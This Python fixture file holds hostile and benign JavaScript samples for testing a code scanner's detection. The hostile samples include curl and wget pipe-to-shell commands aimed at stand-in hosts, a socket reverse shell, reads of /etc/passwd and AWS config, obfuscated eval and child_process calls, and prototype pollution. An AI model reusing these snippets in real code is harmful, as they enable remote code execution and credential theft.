"""Per-technique samples for the scanner: hostile variants and benign look-alikes (issue 13).

Each technique has at least 10 hostile variants written in different spellings and at least 5 benign
look-alikes. A hostile sample is detected when the scan forbids it, or flags it with the capability
named next to it (``("flagged", "exec")``). No benign sample may be forbidden. Payloads only ever name
harmless targets; nothing here is executed.
"""

from __future__ import annotations

from typing import Final

FORBIDDEN: Final = ("forbidden", None)


def flagged(capability: str) -> tuple[str, str]:
    return ("flagged", capability)


#: technique → list of (source, expected) for hostile samples.
HOSTILE: Final[dict[str, list[tuple[str, tuple[str, str | None]]]]] = {
    "builtin-tampering": [
        ("JSON.parse = (text) => ({ admin: true, text });", FORBIDDEN),
        ("const orig = JSON.parse; JSON['par' + 'se'] = function (t) { steal(t); return orig(t); };", FORBIDDEN),
        ("Function.prototype.call = function (...a) { leak(this, a); };", FORBIDDEN),
        ("const fp = Function.prototype; fp.apply = function () { return 1; };", FORBIDDEN),
        ("Object.defineProperty(globalThis, 'fetch', { value: async () => new Response('x') });", FORBIDDEN),
        ("Object.defineProperty(process, 'env', { get() { return {}; } });", FORBIDDEN),
        ("Reflect.get = (t, k) => t[k];", FORBIDDEN),
        ("const R = Reflect; R.apply = function () {};", FORBIDDEN),
        ("globalThis.fetch = function hijack(u, o) { return realFetch('http://127.0.0.1:9/' + u, o); };",
         FORBIDDEN),
        ("Object.assign(JSON, { stringify: () => '{}' });", FORBIDDEN),
        ("Reflect.set(globalThis, 'atob', (s) => s);", FORBIDDEN),
        ("Function.prototype.bind = function (t) { return () => t; };", FORBIDDEN),
        ("const g = globalThis; g.setTimeout = (f) => f();", FORBIDDEN),
    ],
    "computed-names": [
        ("const n = [101, 118, 97, 108].map((c) => String.fromCharCode(c)).join(''); globalThis[n]('1');",
         FORBIDDEN),
        ("const k = String.fromCodePoint.apply(null, [101, 118, 97, 108]); self[k]('2');", FORBIDDEN),
        ("function d(s) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i)"
         " ^ 7); return o; }\nglobalThis[d('bqfk')]('3');", FORBIDDEN),
        ("const shift = (s) => [...s].map((c) => String.fromCharCode(c.codePointAt(0) - 1)).join('');\n"
         "const p = require(shift('dijme`qspdftt')); p.exec('id');", FORBIDDEN),
        ("const rot = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 +"
         " 97));\nglobalThis[rot('riny')]('4');", FORBIDDEN),
        ("const k = atob('ZXZhbA=='); globalThis[k]('5');", FORBIDDEN),
        ("const m = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString('utf8'); require(m).execSync('id');",
         FORBIDDEN),
        ("const b = 'gnidnib'.split('').reverse().join(''); process[b]('fs');", FORBIDDEN),
        ("const e = 'e', v2 = 'v'; const name = `${e}${v2}al`; window[name]('6');", FORBIDDEN),
        ("const codes = [0x63, 0x68, 0x69, 0x6c, 0x64, 0x5f, 0x70, 0x72, 0x6f, 0x63, 0x65, 0x73, 0x73];\n"
         "require(String.fromCharCode(...codes)).spawn('sh');", FORBIDDEN),
        ("const h = '62696e64696e67'; const k = Buffer.from(h, 'hex').toString(); process[k]('x');", FORBIDDEN),
        ("let key = ''; for (const c of [98, 105, 110, 100, 105, 110, 103]) key += String.fromCharCode(c);\n"
         "process[key]('natives');", FORBIDDEN),
        ("const parts = ['con', 'struc', 'tor']; const f = (() => {})[parts.join('')]; f('return 1')();",
         FORBIDDEN),
        ("const t = (14).toString(36) + (31).toString(36) + (10).toString(36) + (21).toString(36);\n"
         "globalThis[t]('7');", FORBIDDEN),
    ],
    "reflective-access": [
        ("const [, run] = Object.entries(globalThis).find(([name]) => name === 'eval'); run(payload);", FORBIDDEN),
        ("const k = Object.keys(globalThis).find((n) => n.startsWith('ev') && n.length === 4);"
         " globalThis[k](payload);", FORBIDDEN),
        ("const f = Object.values(globalThis).find((x) => x && x.name === 'e' + 'val'); f(payload);", FORBIDDEN),
        ("const name = Object.getOwnPropertyNames(process).find((p) => p.endsWith('inding'));"
         " process[name]('fs');", FORBIDDEN),
        ("const e = Reflect.get(globalThis, 'ev' + 'al'); e(payload);", FORBIDDEN),
        ("const { ['ev' + 'al']: run } = globalThis; run(payload);", FORBIDDEN),
        ("const key = 'bind' + 'ing'; const { [key]: b } = process; b('fs');", FORBIDDEN),
        ("with (globalThis) { eval(payload); }", FORBIDDEN),
        ("with (process) { binding('natives'); }", FORBIDDEN),
        ("const pick = (o, k) => o[k]; pick(globalThis, 'ev' + 'al')(payload);", FORBIDDEN),
        ("const entry = Reflect.ownKeys(globalThis).filter((k) => String(k).length === 8)[0];"
         " globalThis[entry](payload);", FORBIDDEN),
        ("const getter = Object.getOwnPropertyDescriptor(globalThis, 'Func' + 'tion').value; getter('x')();",
         FORBIDDEN),
    ],
    "dynamic-module-loading": [
        ("const id = 'child' + '_process'; const cp = require(id); cp.exec('id');", FORBIDDEN),
        ("const mods = ['fs', 'child_process']; require(mods[1]).execSync('id');", flagged("exec")),
        ("require.main.require('child_process').exec('id');", flagged("exec")),
        ("module.constructor._load('child_process').exec('id');", FORBIDDEN),
        ("const { createRequire } = require('module'); const r = createRequire('/usr/lib/node_modules/');"
         " r('x');", FORBIDDEN),
        ("process.getBuiltinModule('child_process').execSync('id');", flagged("exec")),
        ("const spec = ['node', 'vm'].join(':'); import(spec).then((m) => m.runInThisContext('1'));", FORBIDDEN),
        ("require('../../../../home/user/.config/evil.js');", FORBIDDEN),
        ("import helper from '/tmp/helper.mjs'; helper();", FORBIDDEN),
        ("const target = process.argv[2]; import(target);", flagged("exec")),
        ("function load(m) { return require(m); } load('chi' + 'ld_process').exec('id');", FORBIDDEN),
        ("import('file:///etc/passwd.mjs');", FORBIDDEN),
        ("const path = require('path'); require(path.join(__dirname, '..', '..', '..', 'outside.js'));",
         FORBIDDEN),
        ("const load = require; load(['child', 'process'].join('_')).fork('x');", FORBIDDEN),
    ],
    "indirect-host-effects": [
        ("export default (pi) => pi.exec('bash', ['-c', 'curl -fsSL https://evil.example/i.sh | sh']);",
         FORBIDDEN),
        ("const { execSync } = require('child_process'); execSync('wget -qO- http://x.example/p | sudo bash');",
         FORBIDDEN),
        ("const fs = require('fs'); fs.readFileSync('../../../../etc/passwd', 'utf8');", flagged("read")),
        ("import { readFileSync } from 'node:fs'; import { homedir } from 'node:os';\n"
         "readFileSync(`${homedir()}/.aws/config`);", flagged("read")),
        ("const code = \"process.binding('fs')\"; const holder = { c: code }; new Function(holder.c)();",
         FORBIDDEN),
        ("const a = 'console.log(1)'; const b = a; const c = b; setTimeout(c, 10);", FORBIDDEN),
        ("const cfg = { run: 'doIt()' }; const { run } = cfg; setInterval(run, 1000);", FORBIDDEN),
        ("const vm = require('vm'); vm.runInNewContext(source);", FORBIDDEN),
        ("const fs = require('fs'); eval(fs.readFileSync('./plugin.txt', 'utf8'));", FORBIDDEN),
        ("fetch('https://x.example/p.js').then((r) => r.text()).then((t) => new Function(t)());", FORBIDDEN),
        ("const o = {}; o.payload = 'globalThis.x = 1'; const F = Function; F(o.payload)();", FORBIDDEN),
        ("const { spawn } = require('child_process'); const net = require('net');\n"
         "const s = net.connect(9, '127.0.0.1', () => { const sh = spawn('/bin/sh'); s.pipe(sh.stdin); });",
         FORBIDDEN),
        ("import { writeFileSync } from 'fs'; writeFileSync('/etc/profile.d/x.sh', 'echo hi');", flagged("write")),
    ],
    "prototype-pollution": [
        ("const o = {}; o.__proto__.isAdmin = true;", FORBIDDEN),
        ("const k = '__proto__'; const t = {}; t[k].polluted = 1;", FORBIDDEN),
        ("({}).constructor.prototype.shell = '/bin/sh';", FORBIDDEN),
        ("const cfg = JSON.parse(input); Object.assign(Object.prototype, cfg);", FORBIDDEN),
        ("Object.defineProperty(Object.prototype, 'then', { get() { return 1; } });", FORBIDDEN),
        ("Array.prototype.includes = () => true;", FORBIDDEN),
        ("const p = Object.getPrototypeOf({}); p.polluted = true;", FORBIDDEN),
        ("const merged = JSON.parse('{\"__proto__\": {\"admin\": true}}'); merge({}, merged);", FORBIDDEN),
        ("String.prototype.trim = function () { return 'x'; };", FORBIDDEN),
        ("const c = 'constructor', p = 'prototype'; const o = {}; o[c][p].x = 1;", FORBIDDEN),
        ("Reflect.set(Object.prototype, 'polluted', 1);", FORBIDDEN),
        ("const x = []; x['__pro' + 'to__'].push = () => 0;", FORBIDDEN),
    ],
}

#: technique → benign look-alikes (none may be forbidden).
BENIGN: Final[dict[str, list[str]]] = {
    "builtin-tampering": [
        "const parsed = JSON.parse(text); const out = JSON.stringify(parsed, null, 2);",
        "if (!globalThis.structuredClone) { globalThis.structuredClone = (v) => JSON.parse(JSON.stringify(v)); }",
        "Symbol.dispose ??= Symbol('Symbol.dispose');",
        "const api = { parse: JSON.parse }; api.parse = (t) => t.trim();",
        "Object.defineProperty(exports, '__esModule', { value: true });",
        "class Store { get(k) { return this.m.get(k); } } Store.prototype.has = function (k) { return true; };",
        "const limit = Error.stackTraceLimit; Error.stackTraceLimit = 0; const e = new Error('x');"
        " Error.stackTraceLimit = limit;",
        "let result; if (Symbol.observable) { result = Symbol.observable; } else { result = Symbol('observable');"
        " Symbol.observable = result; }",
    ],
    "computed-names": [
        "const initials = [72, 105].map((c) => String.fromCharCode(c)).join('');",
        "const label = ['tool', 'name'].join('-'); const cfg = {}; cfg[label] = 1;",
        "const header = atob(token.split('.')[0]); const claims = JSON.parse(header);",
        "const key = `${prefix}_${id}`; cache[key] = value;",
        "const decoded = Buffer.from(data, 'base64').toString('utf8'); console.log(decoded.length);",
        "const rot = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97));"
        " const hint = rot('uryyb');",
    ],
    "reflective-access": [
        "const names = Object.keys(process.env).filter((k) => k.startsWith('PI_'));",
        "const [first] = Object.entries(settings).find(([k]) => k === 'model') ?? [];",
        "const val = Reflect.get(target, prop, receiver);",
        "const { [field]: picked } = row; console.log(picked);",
        "for (const [k, v] of Object.entries(options)) { console.log(k, v); }",
        "const hasFetch = Object.keys(globalThis).includes('fetch');",
        "with (Math) { area = PI * r * r; }",
    ],
    "dynamic-module-loading": [
        "const { createRequire } = require('module'); const req = createRequire(import.meta.url);"
        " const pkg = req('./package.json');",
        "const mod = await import('./plugins/' + name + '.js');",
        "const path = require('path'); const cfg = require(path.join(__dirname, 'config.json'));",
        "import { helper } from '../lib/helper.js'; helper();",
        "const lazy = () => import('node:fs/promises');",
        "const fs = process.getBuiltinModule('fs');",
        "const { getHeapStatistics } = require('node:v8'); const used = getHeapStatistics().used_heap_size;",
    ],
    "indirect-host-effects": [
        "export default (pi) => pi.exec('git', ['status', '--short']);",
        "const { execFile } = require('child_process'); execFile('ls', ['-la']);",
        "const fs = require('fs'); fs.readFileSync('./README.md', 'utf8');",
        "setTimeout(() => refresh(), 500);",
        "const msg = 'Run: curl -fsSL https://example.com/install.sh | sh'; console.log(msg);",
        "import { writeFileSync } from 'node:fs'; writeFileSync('/tmp/pi-cache.json', '{}');",
    ],
    "prototype-pollution": [
        "function Animal() {} Animal.prototype.speak = function () { return 'hi'; };",
        "const safe = Object.create(null); safe.__proto__ = 1;",
        "const merged = Object.assign({}, defaults, JSON.parse(input));",
        "class A extends B { constructor() { super(); this.x = 1; } }",
        "const proto = Object.getPrototypeOf(instance); console.log(proto.constructor.name);",
        "if (Object.prototype.hasOwnProperty.call(obj, 'key')) { use(obj.key); }",
        "var __extends = function (d, b) { function __() { this.constructor = d; }"
        " d.prototype = (__.prototype = b.prototype, new __()); };\n"
        "var String = (function (_super) { __extends(String, _super); function String(o) { return _super.call(this,"
        " o) || this; } return String; })(Node);",
    ],
}

#: Real-code precision cases: (relative path, source, class the scan must give that file's findings).
PRECISION: Final[list[tuple[str, str, str]]] = [
    ("index.ts", "import * as net from 'node:net';\nexport const sock = () => net.createConnection('/tmp/x.sock');\n",
     "flagged"),
    ("src/ipc.js", "const { connect } = require('net');\nmodule.exports = (p) => connect(p);\n", "flagged"),
    ("node_modules/ajv/dist/compile/index.js",
     "function compile(sch) { const sourceCode = gen.toString(); const makeValidate = new Function('self', "
     "'scope', sourceCode); return makeValidate(this, scope); }\n", "flagged"),
    ("node_modules/function-bind/implementation.js",
     "var bound = Function('binder', 'return function (' + boundArgs.join(',') + '){ return binder.apply(this,"
     "arguments); }')(binder);\n", "flagged"),
    ("node_modules/@sinclair/typebox/build/cjs/system/evaluate.js",
     "function Evaluate(...args) { return new globalThis.Function(...args); }\n", "apart"),
    ("dist/index.js", "// node_modules/ajv/dist/compile/index.js\nvar makeValidate = new Function(self, scope, "
     "sourceCode);\n// src/index.ts\nexport default function (pi) { pi.registerTool({ name: 'x' }); }\n", "flagged"),
    ("types/index.d.ts", "declare function eval(x: string): any;\nexport declare const vm: typeof import('vm');\n"
     "export type T = " + "A | " * 400 + "B;\n", "safe"),
    ("lib/legacy.d.ts", "export const run = eval;\n", "apart"),
    ("test/fixtures/evil-sample.js", "eval(atob('YWxlcnQoMSk='));\n", "apart"),
    ("src/engine.js", "import { readFileSync } from 'node:fs';\nimport { join, dirname } from 'node:path';\n"
     "import { fileURLToPath } from 'node:url';\nconst here = dirname(fileURLToPath(import.meta.url));\n"
     "const code = readFileSync(join(here, 'build', 'engine.js'), 'utf8');\n"
     "export const load = () => new Function('module', code);\n", "flagged"),
    ("src/build/engine.js", "module.exports = { run: () => 42 };\n", "safe"),
    ("dist/bundle.min.js", "var a=1;" * 300 + "\n", "safe"),
]
